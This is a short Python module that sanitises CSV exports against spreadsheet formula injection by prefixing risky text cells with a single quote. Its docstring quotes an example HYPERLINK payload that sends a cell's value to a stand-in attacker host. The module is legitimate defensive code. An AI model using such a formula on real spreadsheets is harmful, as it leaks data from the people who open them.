"""CSV that is safe to open in a spreadsheet: every CSV the desk exports is written here.

Excel, LibreOffice and Google Sheets run a cell that starts with = + - @ (or a tab or
carriage return before one) as a formula, so text a customer or colleague typed, such as
=HYPERLINK("http://evil.example/?x="&A1,"Click me"), would become a live link in a
manager's spreadsheet. OWASP's rule against CSV injection: prefix such a cell with a
single quote, which the spreadsheet shows as text. Only text is prefixed; numbers are
written as numbers, so a change of -3 stays -3.
"""

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from _typeshed import SupportsWrite

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> int | float | Decimal | str | None:
    """The cell as it may be written: numbers (and None) unchanged, text never a formula."""
    if value is None or isinstance(value, int | float | Decimal):  # bool is an int: True stays True
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def write_rows(out: "SupportsWrite[str]", rows: Iterable[Iterable[object]]) -> None:
    """Write `rows` (lists of cells) to the file-like `out` as CSV, each cell through safe_cell."""
    csv.writer(out).writerows([safe_cell(value) for value in row] for row in rows)
